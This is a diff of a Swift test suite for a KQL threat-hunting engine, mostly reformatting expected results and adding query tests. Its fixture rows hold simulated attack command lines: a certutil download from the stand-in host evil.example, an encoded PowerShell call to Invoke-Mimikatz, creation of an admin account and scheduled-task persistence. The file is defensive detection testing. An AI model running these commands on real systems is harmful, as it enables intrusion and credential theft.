@@ -26,11 +26,13 @@ struct HuntScenarioProcessTests {
       | sort by InitiatingProcessFileName asc, FileName asc
       """)
     #expect(output.columns == ["InitiatingProcessFileName", "FileName", "Count"])
-    #expect(output.rows == [
-      ["cmd.exe", "certutil.exe", "1"], ["cmd.exe", "net.exe", "1"], ["cmd.exe", "p.exe", "1"],
-      ["cmd.exe", "powershell.exe", "1"], ["cmd.exe", "schtasks.exe", "1"], ["excel.exe", "rundll32.exe", "1"],
-      ["powershell.exe", "whoami.exe", "1"], ["rundll32.exe", "cmd.exe", "1"], ["winword.exe", "powershell.exe", "1"],
-    ])
+    #expect(
+      output.rows == [
+        ["cmd.exe", "certutil.exe", "1"], ["cmd.exe", "net.exe", "1"], ["cmd.exe", "p.exe", "1"],
+        ["cmd.exe", "powershell.exe", "1"], ["cmd.exe", "schtasks.exe", "1"], ["excel.exe", "rundll32.exe", "1"],
+        ["powershell.exe", "whoami.exe", "1"], ["rundll32.exe", "cmd.exe", "1"],
+        ["winword.exe", "powershell.exe", "1"],
+      ])
   }
 
   @Test("First-seen binaries: arg_min per file name, then only those first seen in the last 4 hours")
@@ -44,15 +46,19 @@ struct HuntScenarioProcessTests {
       | sort by Timestamp asc
       """)
     #expect(output.columns == ["FileName", "Timestamp", "DeviceName", "ProcessCommandLine"])
-    #expect(output.rows == [
-      ["powershell.exe", "2026-03-01 09:30:00+00", "WS1", "powershell.exe -NoP -enc SW52b2tlLU1pbWlrYXR6"],
-      ["rundll32.exe", "2026-03-01 10:00:00+00", "SRV3", #"rundll32.exe C:\Users\Public\x.dll,Start"#],
-      ["certutil.exe", "2026-03-01 10:15:00+00", "WS1", #"certutil.exe -urlcache -split -f http://evil.example/p.exe C:\Temp\p.exe"#],
-      ["p.exe", "2026-03-01 10:20:00+00", "WS1", #"C:\Temp\p.exe"#],
-      ["net.exe", "2026-03-01 11:00:00+00", "SRV3", "net.exe user admin P@ss /add"],
-      ["whoami.exe", "2026-03-01 11:30:00+00", "WS2", "whoami /all"],
-      ["schtasks.exe", "2026-03-01 11:45:00+00", "WS1", #"schtasks /create /tn upd /tr C:\Temp\p.exe"#],
-    ])
+    #expect(
+      output.rows == [
+        ["powershell.exe", "2026-03-01 09:30:00+00", "WS1", "powershell.exe -NoP -enc SW52b2tlLU1pbWlrYXR6"],
+        ["rundll32.exe", "2026-03-01 10:00:00+00", "SRV3", #"rundll32.exe C:\Users\Public\x.dll,Start"#],
+        [
+          "certutil.exe", "2026-03-01 10:15:00+00", "WS1",
+          #"certutil.exe -urlcache -split -f http://evil.example/p.exe C:\Temp\p.exe"#,
+        ],
+        ["p.exe", "2026-03-01 10:20:00+00", "WS1", #"C:\Temp\p.exe"#],
+        ["net.exe", "2026-03-01 11:00:00+00", "SRV3", "net.exe user admin P@ss /add"],
+        ["whoami.exe", "2026-03-01 11:30:00+00", "WS2", "whoami /all"],
+        ["schtasks.exe", "2026-03-01 11:45:00+00", "WS1", #"schtasks /create /tn upd /tr C:\Temp\p.exe"#],
+      ])
   }
 
   @Test("Latest interactive process per device: arg_max(Timestamp, *) keeps one whole row per group")
@@ -66,11 +72,12 @@ struct HuntScenarioProcessTests {
       | project DeviceId, Timestamp, FileName, ReportId, AccountName
       | sort by DeviceId asc
       """)
-    #expect(output.rows == [
-      ["d1", "2026-03-01 11:45:00+00", "schtasks.exe", "115", "alice"],
-      ["d2", "2026-03-01 11:30:00+00", "whoami.exe", "114", "bob"],
-      ["d3", "2026-03-01 08:10:00+00", "chrome.exe", "103", "carol"],
-    ])
+    #expect(
+      output.rows == [
+        ["d1", "2026-03-01 11:45:00+00", "schtasks.exe", "115", "alice"],
+        ["d2", "2026-03-01 11:30:00+00", "whoami.exe", "114", "bob"],
+        ["d3", "2026-03-01 08:10:00+00", "chrome.exe", "103", "carol"],
+      ])
   }
 
   @Test("arg_max(Timestamp, *) by DeviceId: key, then Timestamp, then the other columns in table order")
@@ -82,10 +89,16 @@ struct HuntScenarioProcessTests {
       | summarize arg_max(Timestamp, *) by DeviceId
       | sort by DeviceId asc
       """)
-    #expect(Array(output.columns.prefix(6)) == ["DeviceId", "Timestamp", "DeviceName", "ActionType", "FileName", "FolderPath"])
+    #expect(
+      Array(output.columns.prefix(6)) == [
+        "DeviceId", "Timestamp", "DeviceName", "ActionType", "FileName", "FolderPath",
+      ])
     #expect(output.columns.filter { $0 == "DeviceId" || $0 == "Timestamp" }.count == 2)
     let reportId = output.columns.firstIndex(of: "ReportId")
-    #expect(output.rows.map { row in [row[0], reportId.flatMap { row[$0] }] } == [["d1", "104"], ["d2", "105"], ["d3", "113"]])
+    #expect(
+      output.rows.map { row in [row[0], reportId.flatMap { row[$0] }] } == [
+        ["d1", "104"], ["d2", "105"], ["d3", "113"],
+      ])
   }
 
   @Test("Encoded PowerShell: parse the -enc argument and decode it with base64_decode_tostring")
@@ -100,10 +113,11 @@ struct HuntScenarioProcessTests {
       | sort by DeviceName asc
       """)
     #expect(output.columns == ["DeviceName", "Encoded", "Decoded"])
-    #expect(output.rows == [
-      ["WS1", "SW52b2tlLU1pbWlrYXR6", "Invoke-Mimikatz"],
-      ["WS2", "d2hvYW1pIC9hbGw=", "whoami /all"],
-    ])
+    #expect(
+      output.rows == [
+        ["WS1", "SW52b2tlLU1pbWlrYXR6", "Invoke-Mimikatz"],
+        ["WS2", "d2hvYW1pIC9hbGw=", "whoami /all"],
+      ])
   }
 
   @Test("Decoded payloads matched against a let list with has_any")
@@ -133,10 +147,11 @@ struct HuntScenarioProcessTests {
       | project ReportId, FileName, FileSize
       | sort by FileSize desc, ReportId asc
       """)
-    #expect(output.rows == [
-      ["106", "powershell.exe", "4500"], ["107", "powershell.exe", "4500"], ["101", "chrome.exe", "2000"],
-      ["102", "chrome.exe", "2000"], ["103", "chrome.exe", "2000"], ["109", "certutil.exe", "1500"],
-    ])
+    #expect(
+      output.rows == [
+        ["106", "powershell.exe", "4500"], ["107", "powershell.exe", "4500"], ["101", "chrome.exe", "2000"],
+        ["102", "chrome.exe", "2000"], ["103", "chrome.exe", "2000"], ["109", "certutil.exe", "1500"],
+      ])
   }
 
   @Test("Children of cmd.exe per device: make_set and make_list compared without order")
@@ -150,14 +165,18 @@ struct HuntScenarioProcessTests {
       """)
     #expect(output.columns == ["DeviceId", "Children", "Lines", "Spawned"])
     #expect(output.rows.map { $0[0] } == ["d1", "d2", "d3"])
-    #expect(output.rows.map { HuntRunner.set($0[1]) } == [
-      ["certutil.exe", "p.exe", "schtasks.exe"], ["powershell.exe"], ["net.exe"],
-    ])
-    #expect(output.rows.map { HuntRunner.strings($0[2])?.sorted() } == [
-      [#"C:\Temp\p.exe"#, #"certutil.exe -urlcache -split -f http://evil.example/p.exe C:\Temp\p.exe"#,
-        #"schtasks /create /tn upd /tr C:\Temp\p.exe"#].sorted(),
-      ["powershell.exe -enc d2hvYW1pIC9hbGw="], ["net.exe user admin P@ss /add"],
-    ])
+    #expect(
+      output.rows.map { HuntRunner.set($0[1]) } == [
+        ["certutil.exe", "p.exe", "schtasks.exe"], ["powershell.exe"], ["net.exe"],
+      ])
+    #expect(
+      output.rows.map { HuntRunner.strings($0[2])?.sorted() } == [
+        [
+          #"C:\Temp\p.exe"#, #"certutil.exe -urlcache -split -f http://evil.example/p.exe C:\Temp\p.exe"#,
+          #"schtasks /create /tn upd /tr C:\Temp\p.exe"#,
+        ].sorted(),
+        ["powershell.exe -enc d2hvYW1pIC9hbGw="], ["net.exe user admin P@ss /add"],
+      ])
     #expect(output.rows.map { $0[3] } == ["3", "1", "1"])
   }
 
@@ -259,9 +278,10 @@ struct HuntScenarioProcessTests {
       | sort by DeviceName asc
       """)
     #expect(output.columns == ["DeviceName", "Total", "Shells", "Accounts", "ShellRatio"])
-    #expect(output.rows.map { Array($0.prefix(4)) } == [
-      ["SRV3", "4", "1", "2"], ["WS1", "6", "2", "1"], ["WS2", "4", "2", "1"],
-    ])
+    #expect(
+      output.rows.map { Array($0.prefix(4)) } == [
+        ["SRV3", "4", "1", "2"], ["WS1", "6", "2", "1"], ["WS2", "4", "2", "1"],
+      ])
     #expect(output.rows.map { $0.count == 5 ? $0[4].flatMap(Double.init) : nil } == [0.25, 0.33, 0.5])
   }
 
@@ -343,5 +363,64 @@ struct HuntScenarioProcessTests {
       | sort by ReportId asc
       """)
     #expect(output.rows == [["109", "certutil.exe", "lolbin"], ["110", "p.exe", "malicious"]])
+  }
+
+  @Test("Second process on each device: serialized row_number restarting when the device changes")
+  func rowNumberRestartsPerDevice() throws {
+    // Over the last day, per device in time order: d1 101, 104; d2 102, 105; d3 103, 108.
+    withKnownIssue("row_number(1, prev(DeviceId) != DeviceId) is rejected: KQL-U001 prev() outside extend or serialize")
+    {
+      let output = try hunts.run(
+        """
+        DeviceProcessEvents
+        | where Timestamp > ago(1d)
+        | sort by DeviceId asc, Timestamp asc
+        | extend Seq = row_number(1, prev(DeviceId) != DeviceId)
+        | where Seq == 2
+        | project DeviceId, ReportId, FileName
+        """)
+      #expect(output.rows == [["d1", "104", "cmd.exe"], ["d2", "105", "cmd.exe"], ["d3", "108", "rundll32.exe"]])
+    }
+  }
+
+  @Test("Download host and path: parse kind=regex with typed captures")
+  func parseKindRegexUrl() throws {
+    withKnownIssue(
+      "parse kind=regex with a greedy ? before lazy captures is rejected: SQL-U003 greedy and lazy quantifiers in one pattern"
+    ) {
+      let output = try hunts.run(
+        #"""
+        DeviceProcessEvents
+        | where FileName == "certutil.exe"
+        | parse kind=regex ProcessCommandLine with @"https?://" Host:string "/" UrlPath:string @"\s"
+        | project Host, UrlPath
+        """#)
+      #expect(output.rows == [["evil.example", "p.exe"]])
+    }
+  }
+
+  @Test("Encoded payloads stored in the registry: parse-where drops the values that do not match")
+  func parseWhereRegistryPayload() throws {
+    let output = try hunts.run(
+      """
+      DeviceRegistryEvents
+      | parse-where RegistryValueData with * "-enc " Payload
+      | extend Decoded = base64_decode_tostring(Payload)
+      | project ReportId, Payload, Decoded
+      """)
+    #expect(output.rows == [["302", "d2hvYW1pIC9hbGw=", "whoami /all"]])
+  }
+
+  @Test("Slim registry rows: project-away with a wildcard")
+  func projectAwayWildcard() throws {
+    let output = try hunts.run(
+      """
+      DeviceRegistryEvents
+      | where ReportId == 301
+      | project ReportId, DeviceName, RegistryKey, RegistryValueName, RegistryValueData
+      | project-away Registry*
+      """)
+    #expect(output.columns == ["ReportId", "DeviceName"])
+    #expect(output.rows == [["301", "WS1"]])
   }
 }
